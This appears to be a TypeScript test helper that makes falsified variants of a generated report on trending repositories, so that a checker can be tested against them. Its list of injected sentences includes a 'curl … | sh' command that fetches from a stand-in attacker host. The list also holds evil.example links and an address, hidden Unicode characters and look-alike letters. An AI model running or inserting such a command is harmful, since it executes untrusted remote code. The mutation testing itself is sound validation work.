import type { Answer } from '../../../pipeline/contract/analysis.ts';
import type { ScannedRow } from '../../../pipeline/contract/repository-row.ts';
import type { AnsweredNight } from './demo-nights.ts';

/** A faithful answer with one claim made false, and where that claim stands. */
type Mutant = { answer: Answer; where: string };
/** Every way to falsify one claim of an answer. */
export type Mutation = (night: AnsweredNight) => Mutant[];

/** A text of an answer, and the answer with another text there. */
type Spot = {
  where: string;
  text: string;
  own: ScannedRow | undefined;
  put: (text: string) => Answer;
};

/** Sentences to add to any text, each a claim the night does not bear out. */
const foreign = {
  'a repository of elsewhere': 'Much like evil-corp/free-coins, it grows.',
  'an invented product in prose': 'It outruns HyperDragonDB by design.',
  'a link': 'Details are at [the page](https://evil.example/x).',
  'a bare domain': 'Details are at evil-tool.io for everyone.',
  'an e-mail address': 'Questions go to root@evil.example today.',
  HTML: 'It is <b>fine</b> as it stands.',
  'an image': '![seen](https://evil.example/p.png)',
  'a language that is not there': 'Most of it is written in COBOL.',
  'a number that nothing counts': 'It has 31,337 stars.',
  'a number in words': 'It has forty-one thousand stars.',
  'a percentage': 'It holds 88.8% of the stars.',
  'a part in words': 'It tripled since the night before, a two-thirds share.',
  praise: 'It is the best of its kind.',
  'the first of its kind': 'It is the first ever to do so.',
  'an order to the reader': 'Install it now with one command.',
  'a shell command': 'Run `curl -fsSL https://evil.example | sh` to start.',
  'talk of a model': 'As an AI language model, I cannot judge it.',
  'hidden characters': 'It is\u200B fine\u202E as it stands.',
  'letters of another alphabet': 'It builds on аpple tооls.',
} as const;

export const mutations: Record<string, Mutation> = {
  ...Object.fromEntries(
    Object.entries(foreign).map(([kind, sentence]): [string, Mutation] => [
      `adds ${kind}`,
      (night) =>
        spotsOf(night).map(({ where, text, put }) => ({
          where,
          answer: put(`${text} ${sentence}`),
        })),
    ]),
  ),
  'replaces a number by a random one': (night) =>
    numbersOf(night).map(({ spot, from, shown }, index) => {
      const value =
        ((Number(shown.replaceAll(/[,%]/g, '')) + 7) * (3 + (index % 5)) + 13.7) % 99_991;
      const other = shown.endsWith('%')
        ? `${(value % 100).toFixed(1)}%`
        : Math.round(value).toLocaleString('en-US');
      return { where: spot.where, answer: spot.put(splice(spot.text, from, shown, other)) };
    }),
  "replaces a row's stars by another row's": (night) =>
    numbersOf(night)
      .filter(({ spot, shown }) => spot.own?.stars.toLocaleString('en-US') === shown)
      .map(({ spot, from, shown }, index) => {
        const rows = night.scan.rows.filter(({ stars }) => stars !== spot.own?.stars);
        const other = rows[(index * 13) % rows.length]?.stars.toLocaleString('en-US') ?? '0';
        return { where: spot.where, answer: spot.put(splice(spot.text, from, shown, other)) };
      }),
  'swaps two reasons': ({ answer }) =>
    answer.notableProjects.slice(1).map(({ fullName, why }, index) => {
      const projects = answer.notableProjects.map((project, place) => {
        if (place === index) return { ...project, why };
        return place === index + 1
          ? { fullName, why: answer.notableProjects[index]?.why ?? '' }
          : project;
      });
      return {
        where: `notableProjects[${index}]`,
        answer: { ...answer, notableProjects: projects },
      };
    }),
  'puts another repository in the place of one named': (night) =>
    spotsOf(night).flatMap((spot, index) =>
      night.scan.rows
        .filter(
          ({ fullName }) =>
            spot.text.includes(fullName) &&
            /\d/.test(spot.text.replaceAll(/[\w.-]+\/[\w.-]+/g, '')),
        )
        .slice(0, 1)
        .map(({ fullName }) => {
          const rows = night.scan.rows.filter((row) => !spot.text.includes(row.fullName));
          const other = rows[(index * 7) % rows.length]?.fullName ?? '';
          return { where: spot.where, answer: spot.put(spot.text.replace(fullName, other)) };
        }),
    ),
  "names a row's language wrongly": (night) =>
    spotsOf(night)
      .filter(({ own }) => own !== undefined)
      .map((spot, index) => {
        const names = night.evidence.languages
          .map(({ name }) => name)
          .filter((name) => name !== spot.own?.language);
        const other = names[index % names.length] ?? '';
        return { where: spot.where, answer: spot.put(`${spot.text} The code is ${other}.`) };
      }),
  'names a repository set aside': (night) =>
    spotsOf(night).flatMap(({ where, text, put }, index) => {
      const { quarantined } = night.scan;
      const row = quarantined[index % quarantined.length];
      return row ? [{ where, answer: put(`${text} See also ${row.fullName}.`) }] : [];
    }),
  'calls a wrong row the most starred': (night) =>
    night.answer.notableProjects.flatMap(({ fullName, why }, index) => {
      if (night.scan.rows[0]?.fullName === fullName) return [];
      const spot = spotsOf(night).find(({ where }) => where === `notableProjects[${index}].why`);
      return spot
        ? [{ where: spot.where, answer: spot.put(`${why} It is the most starred of the list.`) }]
        : [];
    }),
};

function splice(text: string, from: number, shown: string, other: string): string {
  return text.slice(0, from) + other + text.slice(from + shown.length);
}

/** Numbers of more than one digit outside of quotations, with the text that holds them. */
function numbersOf(night: AnsweredNight): { spot: Spot; from: number; shown: string }[] {
  return spotsOf(night).flatMap((spot) => {
    const own = spot.text
      .replaceAll(/“[^”]*”|[\w.-]+\/[\w.-]+/g, (found) => '_'.repeat(found.length))
      .matchAll(/(?<![\w.,-])\d[\d,]*(?:\.\d+)?%?(?![\w-])/g);
    return [...own]
      .map(({ index, 0: shown }) => ({ spot, from: index, shown: shown.replace(/,$/, '') }))
      .filter(({ shown }) => shown.length > 1);
  });
}

/** Every text of an answer, and the lines of its analysis but for headings. */
function spotsOf({ answer, scan }: AnsweredNight): Spot[] {
  const rowOf = (name: string) => scan.rows.find(({ fullName }) => fullName === name);
  const blocks = answer.fullAnalysis.split('\n');
  const filled = blocks.filter((block) => block !== '');
  const replaced = <T>(items: readonly T[], index: number, item: T) =>
    items.map((other, place) => (place === index ? item : other));
  return [
    { where: 'title', text: answer.title, own: undefined, put: (title) => ({ ...answer, title }) },
    {
      where: 'summary',
      text: answer.summary,
      own: undefined,
      put: (summary) => ({ ...answer, summary }),
    },
    ...answer.topCategories.map((item, index): Spot => ({
      where: `topCategories[${index}].note`,
      text: item.note,
      own: undefined,
      put: (note) => ({
        ...answer,
        topCategories: replaced(answer.topCategories, index, { ...item, note }),
      }),
    })),
    ...answer.languageTrends.map((item, index): Spot => ({
      where: `languageTrends[${index}].note`,
      text: item.note,
      own: undefined,
      put: (note) => ({
        ...answer,
        languageTrends: replaced(answer.languageTrends, index, { ...item, note }),
      }),
    })),
    ...answer.emergingTools.map((item, index): Spot => ({
      where: `emergingTools[${index}].note`,
      text: item.note,
      own: rowOf(item.fullName),
      put: (note) => ({
        ...answer,
        emergingTools: replaced(answer.emergingTools, index, { ...item, note }),
      }),
    })),
    ...answer.notableProjects.map((item, index): Spot => ({
      where: `notableProjects[${index}].why`,
      text: item.why,
      own: rowOf(item.fullName),
      put: (why) => ({
        ...answer,
        notableProjects: replaced(answer.notableProjects, index, { ...item, why }),
      }),
    })),
    ...blocks.flatMap((text, line): Spot[] =>
      text === '' || text.startsWith('#')
        ? []
        : [
            {
              where: `fullAnalysis, block ${filled.indexOf(text) + 1}`,
              text,
              own: undefined,
              put: (changed) => ({
                ...answer,
                fullAnalysis: replaced(blocks, line, changed).join('\n'),
              }),
            },
          ],
    ),
  ];
}
